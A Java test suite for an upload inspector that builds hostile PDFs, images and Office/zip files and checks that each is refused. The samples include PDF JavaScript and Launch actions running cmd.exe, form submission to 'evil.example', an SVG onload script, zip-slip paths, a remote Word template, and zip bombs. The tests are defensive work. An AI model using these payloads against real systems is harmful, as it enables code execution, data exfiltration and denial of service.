package org.silkgrant.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Set;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.silkgrant.document.UnsafeFileException.Reason;

/**
 * Uploads of an allowed type are inspected before they are kept: every hostile file here is built in the test and
 * refused with its reason on the field {@code file}, leaving nothing in the store; the clean ones of each type
 * (including PDFs with web links, PDFs from PDFBox's compressed writer and from our own renderer, and real Word and
 * Excel files written by POI) are kept.
 */
class UploadInspectionTests {

    /** What the 2023 call's OTHER attachment kind allows. */
    private static final Set<String> OTHER = Set.of(SampleFiles.PDF, SampleFiles.JPEG, SampleFiles.PNG,
            ContentTypes.DOCX, ContentTypes.XLSX);
    private static final long TWENTY_MB = 20L * 1024 * 1024;

    @TempDir
    Path dataDir;

    private FileStore store;

    @BeforeEach
    void setUp() {
        store = new FileStore(dataDir.toString());
    }

    // ---------------------------------------------------------------------------------------------- PDF

    @Test
    void refusesAPdfWithAWebPageAppendedAfterItsEnd() {
        assertRefused(SampleFiles.pdfWithAppendedHtml(), Reason.TRAILING_DATA);
    }

    @Test
    void refusesAPdfWithBinaryDataAppendedAfterItsEnd() {
        byte[] zip = SampleFiles.plainZip();
        assertRefused(SampleFiles.concat(SampleFiles.onePagePdf(), zip), Reason.TRAILING_DATA);
    }

    @Test
    void refusesAPdfWithoutAnyEnd() {
        byte[] pdf = SampleFiles.onePagePdf();
        String text = new String(pdf, StandardCharsets.ISO_8859_1).replace("%%EOF", "");
        assertRefused(text.getBytes(StandardCharsets.ISO_8859_1), Reason.PDF_DAMAGED);
    }

    @Test
    void keepsAPdfPaddedWithWhitespaceAndNulsAfterItsEnd() {
        assertKept(SampleFiles.concat(SampleFiles.onePagePdf(), "\r\n \0\0\0\t\n".getBytes(StandardCharsets.ISO_8859_1)),
                SampleFiles.PDF);
    }

    @Test
    void refusesAPdfThatRunsJavaScriptWhenItOpens() {
        assertRefused(SampleFiles.pdfWithJavaScriptOpenAction(), Reason.PDF_SCRIPT);
    }

    @Test
    void refusesJavaScriptHiddenInACompressedObjectStream() {
        byte[] pdf = SampleFiles.compressedPdf(true);
        assertThat(new String(pdf, StandardCharsets.ISO_8859_1)).as("PDFBox wrote object streams")
                .contains("/ObjStm").doesNotContain("/JavaScript");

        assertRefused(pdf, Reason.PDF_SCRIPT);
    }

    @Test
    void refusesScriptsWhateverTheirSpelling() {
        // #4A#53 is "JS" written in the hex escapes of PDF names.
        assertRefused(SampleFiles.pdf("/OpenAction<</S/Java#53cript/#4A#53(app.alert\\(1\\))>>", ""), Reason.PDF_SCRIPT);
        assertRefused(SampleFiles.pdf("/Names<</JavaScript<</Names[(x) 6 0 R]>>>>", "",
                "<</S/JavaScript/JS 7 0 R>>", "<</Length 12>>stream\napp.alert(1)\nendstream"), Reason.PDF_SCRIPT);
        assertRefused(SampleFiles.pdf("", "/AA<</O<</S/JavaScript/JS(this.print\\(\\))>>>>"), Reason.PDF_SCRIPT);
        assertRefused(SampleFiles.pdf("/OpenAction<</S/URI/URI(java\tscript:alert\\(1\\))>>", ""), Reason.PDF_SCRIPT);
    }

    @Test
    void refusesActionsThatStartProgramsOpenOtherFilesOrSendData() {
        assertRefused(SampleFiles.pdf("/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>", ""),
                Reason.PDF_ACTION);
        assertRefused(SampleFiles.pdf("/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]>>", ""),
                Reason.PDF_ACTION);
        assertRefused(SampleFiles.pdf("/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>", ""),
                Reason.PDF_ACTION);
        assertRefused(SampleFiles.pdf("/OpenAction<</S/URI/URI(file:///C:/Windows/System32/calc.exe)>>", ""),
                Reason.PDF_ACTION);
    }

    @Test
    void refusesEmbeddedFilesAndFileAttachmentAnnotations() {
        assertRefused(SampleFiles.pdfWithEmbeddedFile(), Reason.PDF_EMBEDDED);
        assertRefused(SampleFiles.pdf("", "/Annots[6 0 R]",
                "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 10 10]/FS(a.exe)>>"), Reason.PDF_EMBEDDED);
    }

    @Test
    void refusesXfaForms() {
        assertRefused(SampleFiles.pdf("/AcroForm<</Fields[]/XFA 6 0 R>>", "",
                "<</Length 7>>stream\n<xdp/>\nendstream"), Reason.PDF_XFA);
    }

    @Test
    void refusesAPdfThatNeedsAPasswordAndKeepsOneThatOnlyRestrictsChanges() {
        assertRefused(SampleFiles.encryptedPdf(true), Reason.PDF_ENCRYPTED);
        assertKept(SampleFiles.encryptedPdf(false), SampleFiles.PDF);
    }

    @Test
    void refusesAnObjectStreamThatInflatesBeyondTheBudget() {
        // About 70 KB on the wire, 80 MB when PDFBox decodes the object stream to find object 6.
        byte[] bomb = SampleFiles.pdfWithObjectStreamBomb(80L * 1024 * 1024, false);
        assertThat(bomb.length).isLessThan(200_000);

        assertRefused(bomb, Reason.TOO_COMPLEX);
    }

    @Test
    void refusesACrossReferenceStreamThatInflatesBeyondTheBudget() {
        assertRefused(SampleFiles.pdfWithObjectStreamBomb(80L * 1024 * 1024, true), Reason.TOO_COMPLEX);
    }

    @Test
    void keepsTheSameStructureWithinTheBudget() {
        assertKept(SampleFiles.pdfWithObjectStreamBomb(1024 * 1024, false), SampleFiles.PDF);
    }

    @Test
    void refusesADamagedPdf() {
        byte[] pdf = SampleFiles.onePagePdf();
        byte[] damaged = SampleFiles.concat(java.util.Arrays.copyOf(pdf, 9),
                "garbage without any objects\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));
        assertRefused(damaged, Reason.PDF_DAMAGED);
    }

    @Test
    void keepsCleanPdfsWithWebLinks() {
        assertKept(SampleFiles.onePagePdf(), SampleFiles.PDF);
        assertKept(SampleFiles.compressedPdf(false), SampleFiles.PDF);
        assertKept(SampleFiles.pdf("/OpenAction<</S/URI/URI(https://kjt.xinjiang.gov.cn/)>>", ""), SampleFiles.PDF);
        assertKept(SampleFiles.pdf("/OpenAction<</S/URI/URI(mailto:gjhzc@example.org)>>", ""), SampleFiles.PDF);
    }

    @Test
    void keepsTheApplicationPdfTheSystemRenders() {
        byte[] rendered = new PdfRenderer().render("""
                <html xmlns="http://www.w3.org/1999/xhtml"><head><title>申报书</title></head>
                <body><h1>上合计划项目申报书</h1><p>合作协议 <a href="https://kjt.xinjiang.gov.cn/">科技厅</a></p></body></html>
                """, "申报书", false);

        assertKept(rendered, SampleFiles.PDF);
    }

    // ---------------------------------------------------------------------------------------------- images

    @Test
    void refusesAPngHeaderFollowedByAWebPage() {
        assertRefused(SampleFiles.pngHeaderThenHtml(), Reason.MARKUP);
    }

    @Test
    void refusesAPngWithAWebPageOrDataAfterItsEnd() {
        assertRefused(SampleFiles.pngFollowedBy(SampleFiles.html()), Reason.MARKUP);
        assertRefused(SampleFiles.pngFollowedBy(SampleFiles.plainZip()), Reason.TRAILING_DATA);
        assertRefused(SampleFiles.jpegFollowedBy(SampleFiles.plainZip()), Reason.TRAILING_DATA);
        assertRefused(SampleFiles.jpegFollowedBy("<svg onload=alert(1)>".getBytes(StandardCharsets.US_ASCII)),
                Reason.MARKUP);
    }

    @Test
    void refusesImagesThatEndTooEarly() {
        byte[] png = SampleFiles.png();
        assertRefused(java.util.Arrays.copyOf(png, png.length - 20), Reason.IMAGE_DAMAGED);
        byte[] jpeg = SampleFiles.jpeg();
        assertRefused(java.util.Arrays.copyOf(jpeg, jpeg.length - 2), Reason.IMAGE_DAMAGED);
    }

    @Test
    void refusesAnImageThatDeclaresMorePixelsThanTheLimit() {
        UnsafeFileException refused = assertRefused(SampleFiles.pngDeclaring(100_000, 100_000), Reason.IMAGE_PIXELS);

        assertThat(refused.violations().get(0).arguments()).containsExactly("100000 × 100000", "100");
        assertKept(SampleFiles.pngDeclaring(4961, 7016), SampleFiles.PNG);
    }

    @Test
    void keepsCleanImagesPaddingAndAPhotoWithASecondImageAfterTheFirst() {
        assertKept(SampleFiles.png(), SampleFiles.PNG);
        assertKept(SampleFiles.jpeg(), SampleFiles.JPEG);
        assertKept(SampleFiles.pngFollowedBy(new byte[16]), SampleFiles.PNG);
        // Phones store a gain map or a preview as a second JPEG right after the first (MPF).
        assertKept(SampleFiles.jpegFollowedBy(SampleFiles.jpeg()), SampleFiles.JPEG);
    }

    // ---------------------------------------------------------------------------------------------- zip / OOXML

    @Test
    void refusesAZipBombNamedDocxWithAThousandToOneEntry() {
        byte[] bomb = SampleFiles.docxWithZeros("word/media/image1.png", 20 * 1024 * 1024);
        assertThat(bomb.length).isLessThan(100_000);

        UnsafeFileException refused = assertRefused(bomb, Reason.ZIP_RATIO);
        assertThat(refused.violations().get(0).arguments()).containsExactly("100");
    }

    @Test
    void refusesADocxWithAHundredThousandEntries() {
        UnsafeFileException refused = assertRefused(SampleFiles.docxWithEntries(100_000), Reason.ZIP_ENTRIES);

        assertThat(refused.violations().get(0).arguments()).containsExactly("10000");
    }

    @Test
    void refusesAnArchiveThatExpandsBeyondTheTotalLimit() {
        FileStore small = new FileStore(new LocalFileStorage(dataDir.resolve("small")),
                new FilesProperties.Inspection(null, org.springframework.util.unit.DataSize.ofMegabytes(1), null,
                        null, null, null));
        byte[] random = new byte[600 * 1024];
        new java.util.Random(7).nextBytes(random);
        Map<String, byte[]> extra = new LinkedHashMap<>();
        extra.put("word/media/a.bin.png", random);
        extra.put("word/media/b.bin.png", random.clone());

        assertThatThrownBy(() -> small.store(new ByteArrayInputStream(SampleFiles.docxWith(extra)), "a.docx",
                TWENTY_MB, OTHER)).isInstanceOfSatisfying(UnsafeFileException.class,
                        e -> assertThat(e.reason()).isEqualTo(Reason.ZIP_EXPANDED));
    }

    @Test
    void refusesABombInsideADocumentInsideTheDocument() {
        byte[] inner = SampleFiles.xlsxWith(Map.of("xl/media/zeros.png", new byte[20 * 1024 * 1024]));
        byte[] outer = SampleFiles.docxWith(Map.of("word/embeddings/Microsoft_Excel_Worksheet.xlsx", inner));

        assertRefused(outer, Reason.ZIP_RATIO);
    }

    @Test
    void refusesArchivesNestedTwoLevelsDeep() {
        byte[] innermost = SampleFiles.zipOf(Map.of("a.txt", "a".getBytes(StandardCharsets.US_ASCII)));
        byte[] middle = SampleFiles.zipOf(Map.of("inner.zip", innermost));
        assertRefused(SampleFiles.docxWith(Map.of("word/embeddings/package.zip", middle)), Reason.ZIP_NESTED);
    }

    @Test
    void keepsAChartsWorkbookEmbeddedInAWordDocument() {
        byte[] chartData = SampleFiles.poiXlsx();
        assertKept(SampleFiles.docxWith(Map.of("word/embeddings/Microsoft_Excel_Worksheet.xlsx", chartData)),
                ContentTypes.DOCX);
    }

    @Test
    void refusesEntryNamesThatLeaveTheArchive() {
        assertRefused(SampleFiles.docxWith(Map.of("../../evil.txt", new byte[1])), Reason.ZIP_NAMES);
        assertRefused(SampleFiles.docxWith(Map.of("/etc/cron.d/x", new byte[1])), Reason.ZIP_NAMES);
        assertRefused(SampleFiles.docxWith(Map.of("word\\..\\..\\evil.txt", new byte[1])), Reason.ZIP_NAMES);
    }

    @Test
    void refusesADirectoryThatUnderstatesAnEntrysSize() throws IOException {
        byte[] docx = SampleFiles.docxWith(Map.of("word/media/notes.txt",
                "多".repeat(200_000).getBytes(StandardCharsets.UTF_8)));
        // The central directory's uncompressed size of the last entry set to 1 KB: the CEN check passes, inflating
        // finds more than declared.
        byte[] lying = understateLastEntry(docx, 1024);

        assertRefused(lying, Reason.ZIP_DAMAGED);
    }

    @Test
    void refusesMacrosActiveXAndOleObjects() {
        assertRefused(SampleFiles.docxWith(Map.of("word/activeX/activeX1.xml", "<ax/>".getBytes(StandardCharsets.UTF_8))),
                Reason.OFFICE_ACTIVE);
        assertRefused(SampleFiles.docxWith(Map.of("word/embeddings/oleObject1.bin", new byte[] {(byte) 0xd0, (byte) 0xcf})),
                Reason.OFFICE_ACTIVE);
        byte[] macroWorkbook = SampleFiles.zipOf(Map.of("xl/vbaProject.bin", new byte[] {1, 2, 3}));
        assertRefused(SampleFiles.docxWith(Map.of("word/embeddings/Book1.xlsm", macroWorkbook)), Reason.OFFICE_ACTIVE);
    }

    @Test
    void refusesATemplateLoadedFromElsewhereButKeepsHyperlinks() {
        String relationships = """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"
                 Target="%s" TargetMode="External"/></Relationships>""";
        assertRefused(SampleFiles.docxWith(Map.of("word/_rels/settings.xml.rels", relationships.formatted(
                "attachedTemplate", "https://evil.example/t.dotm").getBytes(StandardCharsets.UTF_8))),
                Reason.OFFICE_EXTERNAL);
        assertKept(SampleFiles.docxWith(Map.of("word/_rels/document.xml.rels", relationships.formatted(
                "hyperlink", "https://kjt.xinjiang.gov.cn/").getBytes(StandardCharsets.UTF_8))), ContentTypes.DOCX);
    }

    @Test
    void keepsRealWordAndExcelFiles() {
        assertKept(SampleFiles.poiDocx(), ContentTypes.DOCX);
        assertKept(SampleFiles.poiXlsx(), ContentTypes.XLSX);
        assertKept(SampleFiles.docx(), ContentTypes.DOCX);
        assertKept(SampleFiles.xlsx(), ContentTypes.XLSX);
    }

    @Test
    void refusesAZipBombEvenWhereZipsAreNotAllowedAtAll() {
        // The central directory is checked while the type is found, before [Content_Types].xml is read.
        assertThatThrownBy(() -> store.store(new ByteArrayInputStream(SampleFiles.docxWithEntries(100_000)), "a.pdf",
                TWENTY_MB, Set.of(SampleFiles.PDF))).isInstanceOfSatisfying(UnsafeFileException.class,
                        e -> assertThat(e.reason()).isEqualTo(Reason.ZIP_ENTRIES));
    }

    // ---------------------------------------------------------------------------------------------- helpers

    private UnsafeFileException assertRefused(byte[] content, Reason reason) {
        try {
            store.store(new ByteArrayInputStream(content), "upload.bin", TWENTY_MB, OTHER);
        } catch (UnsafeFileException e) {
            assertThat(e.reason()).isEqualTo(reason);
            assertThat(e.violations()).singleElement().satisfies(v -> {
                assertThat(v.field()).isEqualTo("file");
                assertThat(v.code()).isEqualTo(reason.name());
                assertThat(v.messageKey()).isEqualTo(reason.messageKey());
            });
            try {
                assertThat(FileStoreTests.filesUnder(dataDir)).as("files kept after a refusal").isEmpty();
            } catch (IOException io) {
                throw new AssertionError(io);
            }
            return e;
        }
        throw new AssertionError("accepted, expected " + reason);
    }

    private void assertKept(byte[] content, String mediaType) {
        StoredFile stored = store.store(new ByteArrayInputStream(content), "upload", TWENTY_MB, OTHER);
        assertThat(stored.mediaType()).isEqualTo(mediaType);
        assertThat(stored.size()).isEqualTo(content.length);
    }

    /** The zip with the last central directory entry's uncompressed size replaced. */
    private static byte[] understateLastEntry(byte[] zip, int size) {
        byte[] copy = zip.clone();
        int at = -1;
        for (int i = 0; i + 4 <= copy.length; i++) {
            if (copy[i] == 'P' && copy[i + 1] == 'K' && copy[i + 2] == 1 && copy[i + 3] == 2) {
                at = i;
            }
        }
        assertThat(at).as("a central directory entry").isPositive();
        java.nio.ByteBuffer.wrap(copy, at + 24, 4).order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(size);
        return copy;
    }
}
